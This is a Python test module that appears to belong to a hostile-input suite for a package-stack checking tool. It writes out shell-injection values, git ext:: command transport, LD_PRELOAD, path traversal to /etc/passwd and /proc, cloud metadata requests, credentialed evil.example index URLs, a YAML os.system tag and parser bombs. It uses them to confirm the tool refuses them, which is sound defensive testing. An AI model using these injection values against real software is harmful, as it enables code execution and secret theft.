"""Definitions, Dockerfiles and project files that a stranger may hand in.

Each is met by the command that would read it. Where exit code 0 may stand, the definition is harmless once
its trick has failed, and the attempt says in `secrets` or by the canary what the trick was after.
"""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING

from tests.hostile.campaign import CANARY, Attempt, Call

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

SECRET = "PRIVATEq7-of-the-host"
HEAD = '[[stack]]\nid = "one"\npython = "3.11"\n'
TORCH = 'packages = { torch = "2.5.0+cu124" }\n'
BAD_STACK = 'packages = { torch = "2.5.0+cu124" }\ngpus = ["B200"]\n'
TOUCH = f"touch {CANARY}"
ANY = frozenset({0, 1, 2, 3})
BAD = frozenset({2})
OFFLINE = ("check", "one.toml", "--offline")
WHOLE = ("verify", "one.toml", "--offline", "--engine", "wheels")
Making = tuple[str, "Callable[[Path], Call]"]


def attempts(seed: int) -> list[Attempt]:
    """Return every attempt; they do not depend on the seed."""
    del seed
    made = [*_files(), *_escapes(), *_texts(), *_names(), *_tricks(), *_untrusted(), *_projects()]
    return [Attempt(name, make) for name, make in made]


def _written(
    text: str, words: Sequence[str] = OFFLINE, may: frozenset[int] = BAD, says: str = "", **rest: object
) -> Callable[[Path], Call]:
    def make(folder: Path) -> Call:
        (folder / "one.toml").write_text(text, "utf-8")
        return Call(words, may=may, says=says, **rest)  # type: ignore[arg-type]

    return make


def _files() -> list[Making]:
    """Return definitions that are no files, or no texts, and files that they name which are none."""

    def fifo(folder: Path) -> None:
        os.mkfifo(folder / "one.toml")

    def link(target: str) -> Callable[[Path], None]:
        return lambda folder: (folder / "one.toml").symlink_to(target)

    def content(data: bytes) -> Callable[[Path], object]:
        return lambda folder: (folder / "one.toml").write_bytes(data)

    def sparse(folder: Path) -> None:
        with (folder / "one.toml").open("wb") as file:
            file.truncate(1 << 40)

    kinds: dict[str, Callable[[Path], object]] = {
        "a pipe": fifo,
        "a folder": lambda folder: (folder / "one.toml").mkdir(),
        "a link to a device": link("/dev/zero"),
        "a link to random numbers": link("/dev/urandom"),
        "a link to itself": link("one.toml"),
        "a link to nothing": link("nowhere"),
        "a link to a file of the kernel": link("/proc/self/environ"),
        "a link to memory": link("/proc/self/mem"),
        "a terabyte of nothing": sparse,
        "empty": content(b""),
        "zero bytes": content(b"\0" * 4096),
        "random bytes": content(bytes(range(256)) * 64),
        "UTF-16 without its mark": content((HEAD + TORCH).encode("utf-16-le")),
        "half a character": content(HEAD.encode() + b'summary = "\xe2\x82"'),
        "deep arrays": content(b"x = " + b"[" * 100_000),
        "deep tables": content(b"[" + b".".join([b"a"] * 100_000) + b"]\n"),
        "deep inline tables": content(b"x = " + b"{a=" * 50_000),
        "a long number": content(b"x = " + b"9" * 1_000_000),
        "a million keys": content(b"".join(b"k%d=1\n" % number for number in range(1_000_000))),
        "a hundred thousand stacks": content(
            b"".join(b'[[stack]]\nid="s%d"\npackages={a="%d x"}\n' % (n, n) for n in range(20_000))
        ),
        "JSON": content(json.dumps({"stack": [{"id": "one"}]}).encode()),
        "an axis of a million": content(
            (HEAD + f"[stack.axes]\na = {json.dumps([str(n) for n in range(1000)])}\n"
             f"b = {json.dumps([str(n) for n in range(1000)])}\n").encode()
        ),
    }  # fmt: skip

    def named(write: Callable[[Path], object]) -> Callable[[Path], Call]:
        def make(folder: Path) -> Call:
            write(folder)
            return Call(OFFLINE, may=BAD, secrets=("STACKCHECK_CACHE=",))

        return make

    found: list[Making] = [(f"the definition is {kind}", named(write)) for kind, write in kinds.items()]
    for kind in ("a pipe", "a link to a device", "a folder", "a link to memory", "a terabyte of nothing"):
        for key in ("dockerfile", "manifest"):

            def make(folder: Path, kind: str = kind, key: str = key) -> Call:
                kinds[kind](folder)
                (folder / "one.toml").rename(folder / "named")
                more = "" if key == "dockerfile" else ', dockerfile = "Dockerfile"'
                (folder / "Dockerfile").write_text("FROM scratch\n")
                (folder / "one.toml").write_text(f'{HEAD}image = {{ {key} = "named"{more} }}\n')
                words = OFFLINE if key == "dockerfile" else ("build", "one.toml", "--plan", "--offline")
                return Call(words, may=frozenset({2, 3}))

            found.append((f"image.{key} is {kind}", make))
    return found


def _escapes() -> list[Making]:
    """Return definitions that name what is not theirs."""
    lines = {
        "a Dockerfile upwards": 'image = {{ dockerfile = "../{up}" }}',
        "a Dockerfile by its whole path": 'image = {{ dockerfile = "{whole}/Dockerfile" }}',
        "a Dockerfile through a link": 'image = {{ dockerfile = "link/Dockerfile" }}',
        "the user table as Dockerfile": 'image = {{ dockerfile = "/etc/passwd" }}',
        "a context upwards": 'image = {{ dockerfile = "Dockerfile", context = "../host" }}',
        "the whole machine as context": 'image = {{ dockerfile = "Dockerfile", context = "/" }}',
        "a context through a link": 'image = {{ dockerfile = "Dockerfile", context = "link" }}',
        "a manifest outside": 'image = {{ dockerfile = "Dockerfile", manifest = "{whole}/Dockerfile" }}',
        "find-links outside": 'index = {{ find_links = ["{whole}"] }}',
        "find-links by a file URL": 'index = {{ find_links = ["file://{whole}"] }}',
        "find-links by a file URL with dots": 'index = {{ find_links = ["file://{whole}/../host"] }}',
        "find-links without an end": 'index = {{ find_links = ["/dev/zero"] }}',
        "an index outside": 'index = {{ url = "{whole}" }}',
        "a further index outside": 'index = {{ extra = ["{whole}"] }}',
        "an index of one package": 'packages = {{ six = {{ version = "1", index = "{whole}" }} }}',
        "pages of one package": 'packages = {{ six = {{ version = "1", find_links = "{whole}" }} }}',
        "a wheel outside": 'packages = {{ six = {{ path = "{whole}/six-1-py3-none-any.whl" }} }}',
        "a wheel through a link": 'packages = {{ six = {{ path = "link/six-1-py3-none-any.whl" }} }}',
        "a smoke test through a link": 'smoke = [{{ name = "a", script = "link/Dockerfile" }}]',
        "a file of a smoke test through a link":
            'smoke = [{{ name = "a", command = ["cat", "x"], files = ["link/Dockerfile"] }}]',
        "a folder outside": 'packages = {{ six = {{ path = "{whole}" }} }}',
    }  # fmt: skip

    def named(line: str) -> Callable[[Path], Call]:
        def make(folder: Path) -> Call:
            host = folder.parent / "host"
            host.mkdir()
            for name in ("Dockerfile", "six-1-py3-none-any.whl"):
                (host / name).write_text(f"FROM x\n# {SECRET}\n")
            (folder / "link").symlink_to(host)
            (folder / "Dockerfile").write_text("FROM scratch\n")
            (folder / "one.toml").write_text(HEAD + line.format(whole=host, up="host/Dockerfile") + "\n")
            return Call(WHOLE, may=BAD, says="leads out of")

        return make

    return [(name, named(line)) for name, line in lines.items()]


def _texts() -> list[Making]:
    """Return values that would break out of a line, a command, a report or a terminal."""
    esc, bidi, shell = "\\u001b[2J\\u001b[31m", "\\u202e", f"$({TOUCH});`{TOUCH}`;{TOUCH}"
    rows = {
        "a summary that clears the terminal": f'summary = "{esc}PASS"\n{TORCH}',
        "a summary that runs backwards": f'summary = "{bidi}SSAP"\n{TORCH}',
        "a summary of workflow commands": 'summary = "::set-env name=A::b\\n##[error]"\n' + TORCH,
        "a summary of a script": 'summary = "<script>alert(1)</script>]]>"\n' + TORCH,
        "a summary of a megabyte": f'summary = "{"A" * (1 << 20)}"\n{TORCH}',
        "a summary with a null": f'summary = "a\\u0000b"\n{TORCH}',
        "a variable of shell syntax": f"env = {{ A = '{shell}' }}\n{TORCH}",
        "a variable with a null": f'env = {{ A = "a\\u0000b" }}\n{TORCH}',
        "a variable's name of shell syntax": f"env = {{ 'A;{TOUCH}' = 'b' }}\n{TORCH}",
        "a variable of the loader": f'env = {{ LD_PRELOAD = "./{CANARY}.so" }}\n{TORCH}',
        "a variable of the resolver": f'env = {{ UV_INDEX = "http://127.0.0.1:9" }}\n{TORCH}',
        "a host compiler of shell syntax": f"host_compiler = '{shell}'\n{TORCH}",
        "a driver of ten thousand digits": f'driver = "{"5" * 10_000}"\n{TORCH}',
        "an arch list of a million": f'arch_list = ["{"9.0;" * 200_000}"]\n{TORCH}',
        "a reason with control characters": f'ignore = {{ TORCH101 = "{esc}because I say so" }}\n{TORCH}',
    }
    found: list[Making] = []
    for number, (name, row) in enumerate(rows.items()):
        form = ("text", "markdown", "html", "junit", "github", "sarif", "json")[number % 7]
        found.append((name, _written(HEAD + row, (*OFFLINE, "--format", form), ANY)))
    return found


def _names() -> list[Making]:
    """Return names, tags, ids and requirements that are none."""
    shell = f"a;{TOUCH}"
    rows = {
        "an id of shell syntax": f"[[stack]]\nid = '{shell}'\n{TORCH}",
        "an id upwards": f'[[stack]]\nid = "../../{CANARY}"\n{TORCH}',
        "an id with a line end": f'[[stack]]\nid = "a\\nb"\n{TORCH}',
        "an id of a megabyte": f'[[stack]]\nid = "{"a" * (1 << 20)}"\n{TORCH}',
        "a base with an instruction": f'{HEAD}image = {{ base = "x\\nRUN {TOUCH}" }}\n{TORCH}',
        "a base of another request": f'{HEAD}image = {{ base = "../containers/create" }}\n{TORCH}',
        "a base that is an option": f'{HEAD}image = {{ base = "--privileged" }}\n{TORCH}',
        "a ready image of another request": f'{HEAD}image = {{ ready = "a/../../info" }}\n{TORCH}',
        "a build base with blanks": f'{HEAD}image = {{ base = "a", build_base = "b c" }}\n{TORCH}',
        "a target that is an option": f'{HEAD}image = {{ dockerfile = "D", target = "--x" }}\n{TORCH}',
        "a tag upwards": f'{HEAD}image = {{ tag = "../../a:1" }}\n{TORCH}',
        "a tag with a line end": f'{HEAD}image = {{ tag = "a:1\\nb" }}\n{TORCH}',
        "a Python of shell syntax": f"{HEAD}image = {{ python = 'python3;{TOUCH}' }}\n{TORCH}",
        "a Python with a line end": f'{HEAD}image = {{ python = "python3\\nRUN {TOUCH}" }}\n{TORCH}',
        "a system package that is an option": f'{HEAD}image = {{ apt = ["-o=x"] }}\n{TORCH}',
        "a system package of shell syntax": f"{HEAD}image = {{ apt = ['{shell}'] }}\n{TORCH}",
        "a package that is an option": f'{HEAD}packages = {{ "--index-url" = "1" }}\n',
        "a package of shell syntax": f"{HEAD}packages = {{ '{shell}' = '1' }}\n",
        "a package that is a reference": f'{HEAD}packages = {{ "six @ file:///etc/passwd" = "1" }}\n',
        "a package with a line end": f'{HEAD}packages = {{ "six\\nsix" = "1" }}\n',
        "an extra with a line end": HEAD
        + 'packages = { six = { version = "1", extras = ["a]\\n[tool"] } }\n',
        "a version with a line end": f'{HEAD}packages = {{ six = "1\\n2" }}\n',
        "a version of shell syntax": f"{HEAD}packages = {{ six = '{shell}' }}\n",
        "a marker of code": f"{HEAD}packages = {{ six = {{ version = '1', marker = '__import__(1)' }} }}\n",
        "a requirement that is a file": f'{HEAD}requires = ["six @ file:///etc/passwd"]\n',
        "a requirement with a line end": f'{HEAD}requires = ["six\\n--index-url x"]\n',
        "a git that is an option": f'{HEAD}packages = {{ six = {{ git = "git+ext::sh -c {TOUCH}" }} }}\n',
        "a URL of a file": f'{HEAD}packages = {{ six = {{ url = "file:///etc/passwd" }} }}\n',
        "a Python that is an option": f'[[stack]]\nid = "one"\npython = "--x"\n{TORCH}',
        "a platform of shell syntax": f"{HEAD}platform = '{shell}'\n{TORCH}",
        "a probe that is a path": f'{HEAD}probes = {{ want = ["../../{CANARY}"] }}\n{TORCH}',
        "a tier on itself": f'{HEAD}image = {{ from_stack = "one", dockerfile = "D" }}\n{TORCH}',
        "a key of nobody": f"{HEAD}engine = 'here'\n{TORCH}",
        "a key that readers fill": f'{HEAD}read_from = ["x"]\n{TORCH}',
        "terms of its own": f'{HEAD}terms = ["trusted"]\n{TORCH}',
    }
    return [(name, _written(text, may=frozenset({2}))) for name, text in rows.items()]


def _tricks() -> list[Making]:
    """Return definitions that would have a bad stack read as a good one."""
    bad, two = BAD_STACK, BAD_STACK.replace('"B200"', '"B200", "RTX 5090"')
    never, reason = frozenset({1, 3}), '"never mind this one"'
    rows = {
        "it expects what nothing has": f'{HEAD}expect = "fail"\nexpect_codes = ["TORCH999"]\n{bad}',
        "it expects to fail and names nothing": f'{HEAD}expect = "fail"\n{bad}',
        "it expects with a star": f'{HEAD}expect = "fail"\nexpect_codes = ["*"]\n{bad}',
        "it expects any number": f'{HEAD}expect = "fail"\nexpect_codes = ["ARCH101*99999"]\n{bad}',
        "it expects another subject": f'{HEAD}expect = "fail"\nexpect_codes = ["ARCH101:six"]\n{bad}',
        "it ignores with a star": f'{HEAD}ignore = {{ "*" = {reason} }}\n{bad}',
        "it ignores a family": f"{HEAD}ignore = {{ ARCH = {reason} }}\n{bad}",
        "it ignores what nothing has": f"{HEAD}ignore = {{ TORCH999 = {reason} }}\n{bad}",
        "it ignores one GPU of two": f'{HEAD}ignore = {{ "ARCH101:B200" = {reason} }}\n{two}',
        "it ignores what one GPU has, and two have": f"{HEAD}ignore = {{ ARCH101 = {reason} }}\n{two}",
        "it expects one GPU of two": f'{HEAD}expect = "fail"\nexpect_codes = ["ARCH101:B200"]\n{two}',
        "it expects what one GPU has, and two have":
            f'{HEAD}expect = "fail"\nexpect_codes = ["ARCH101"]\n{two}',
        "it has no package": HEAD,
        "it skips every probe": f'{HEAD}probes = {{ skip = ["torch_build"], want = [] }}\n{bad}',
        "it leaves everything out by a marker":
            f"{HEAD}packages = {{ six = {{ version = '1', marker = \"python_version<'3'\" }} }}\n",
        "its image is built from nothing": f'{HEAD}image = {{ base = "scratch" }}\n{bad}',
    }  # fmt: skip
    words = (*OFFLINE, "--accept-expected")
    return [(name, _written(text, words, never | BAD)) for name, text in rows.items()]


def _untrusted() -> list[Making]:
    """Return trees that would decide about the check of themselves."""
    expecting = (
        f'{HEAD}expect = "fail"\nexpect_codes = ["TORCH999"]\nignore = {{ LOCK201 = "never mind it" }}\n'
    )
    words = ("check", "one.toml", "--untrusted", "--offline", "--accept-expected")

    def tree(text: str, files: dict[str, str], call: Sequence[str], says: str, **rest: object) -> Making:
        def make(folder: Path) -> Call:
            for name, content in files.items():
                path = folder / name
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(content.format(folder=folder))
            (folder / "one.toml").write_text(text)
            return Call(call, says=says, **rest)  # type: ignore[arg-type]

        return says, make

    plug = "from pathlib import Path\nPath('{folder}/" + CANARY + "').touch()\n"
    entry = "[stackcheck.rules]\nevil = evil_rules\n[stackcheck.engines]\ndocker = evil_rules:E\n"
    metadata = "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"
    plugged = {
        "evil_rules.py": plug,
        "evil-1.dist-info/entry_points.txt": entry,
        "evil-1.dist-info/METADATA": metadata,
    }
    may = frozenset({1, 3})
    rows = {
        "a tree that expects and ignores": tree(expecting + BAD_STACK, {}, words, "left out as", may=may),
        "a tree that is configured": tree(
            HEAD + TORCH, {"stackcheck.toml": '[ignore]\nLOCK201 = "never mind it"\n'}, words,
            "stackcheck.toml", may=ANY,
        ),
        "a tree with broken configuration": tree(
            HEAD + TORCH, {"pyproject.toml": "[tool.stackcheck]\nengine = 'here'\n"}, words,
            "[tool.stackcheck]", may=ANY,
        ),
        "a tree with plug-ins": tree(HEAD + TORCH, plugged, words, "untrusted", may=ANY),
        "a tree with tables": tree(
            HEAD + TORCH, {"tables/told/torch.toml": "checked = 2026-01-01\n"}, words, "STACKCHECK_KNOWLEDGE",
            may=BAD, environ={"STACKCHECK_KNOWLEDGE": "tables"},
        ),
        "a tree with an index of its own": tree(
            HEAD + TORCH + 'index = { extra = ["https://pypi.org.evil.example/simple"] }\n', {}, words,
            "is not asked", may=BAD,
        ),
        "a tree with credentials in its index": tree(
            HEAD + TORCH + f'index = {{ url = "https://me:{SECRET}@evil.example/simple" }}\n', {}, words,
            "is not asked", may=BAD, secrets=(SECRET,),
        ),
        "a tree that asks the cloud for its keys": tree(
            HEAD + 'packages = { a = { url = "http://169.254.169.254/a-1-py3-none-any.whl" } }\n', {}, words,
            "is not asked", may=BAD,
        ),
        "a tree that allows itself the outside": tree(
            HEAD + 'image = { dockerfile = "/etc/passwd" }\n', {}, (*words, "--allow-outside"),
            "keeps to the checked tree", may=BAD,
        ),
    }  # fmt: skip
    return [(name, make) for name, (_, make) in rows.items()]


def _projects() -> list[Making]:
    """Return a project's own files that lead elsewhere or run something."""
    files = {
        "requirements that include the user table": ("requirements.txt", "-r /etc/passwd\n"),
        "requirements that include upwards": ("requirements.txt", "-r ../host/secret.txt\n"),
        "constraints upwards": ("requirements.txt", "torch==2.5.0\n-c ../host/secret.txt\n"),
        "requirements that include themselves": ("requirements.txt", "torch==2.5.0\n-r requirements.txt\n"),
        "requirements of shell syntax": ("requirements.txt", f"torch==2.5.0\n$({TOUCH})\n`{TOUCH}`\n"),
        "requirements with a password": (
            "requirements.txt", f"--index-url https://me:{SECRET}@h.example/simple\ntorch==2.5.0\n"),
        "a setup.py that runs": ("setup.py", f"open('{CANARY}', 'w')\nsetup(install_requires=['torch'])\n"),
        "a Dockerfile of nothing": ("Dockerfile", "FROM scratch\nCOPY torch-2.5.0-py3-none-any.whl /\n"),
        "a Dockerfile that copies upwards": (
            "Dockerfile", "FROM python:3.11\nCOPY ../host/secret.txt r.txt\nRUN pip install -r r.txt\n"),
        "a Dockerfile of a frontend": (
            "Dockerfile", "# syntax=evil.example/frontend\nFROM python:3.11\nRUN pip install torch\n"),
        "a Dockerfile of a million steps": ("Dockerfile", "FROM python:3.11\n" + "RUN true\n" * 300_000),
        "a Dockerfile that never ends a line": ("Dockerfile", "FROM python:3.11\nRUN " + "a \\\n" * 300_000),
        "an environment file of tags": ("environment.yml", "dependencies: !!python/object:os.system [x]\n"),
        "an environment file of aliases": (
            "environment.yml", "a: &a [x,x]\n" + "".join(
                f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)},*{chr(97 + n)}]\n" for n in range(24))),
        "a compose file that extends upwards": (
            "compose.yaml", "services:\n  a:\n    build: {context: ../host}\n    gpus: all\n"),
    }  # fmt: skip
    found: list[Making] = []
    for name, (file, text) in files.items():

        def make(folder: Path, name: str = name, file: str = file, text: str = text) -> Call:
            (folder.parent / "host").mkdir()
            (folder.parent / "host" / "secret.txt").write_text(f"{SECRET}==1\n")
            (folder.parent / "host" / "Dockerfile").write_text(f"FROM python:3.11\n# {SECRET}\n")
            (folder / file).write_text(text)
            return Call(
                ("check", file, "--offline"),
                may=BAD if "include upwards" in name or "constraints upwards" in name else ANY,
                secrets=(SECRET, "root:x:"),
            )

        found.append((name, make))
    return found
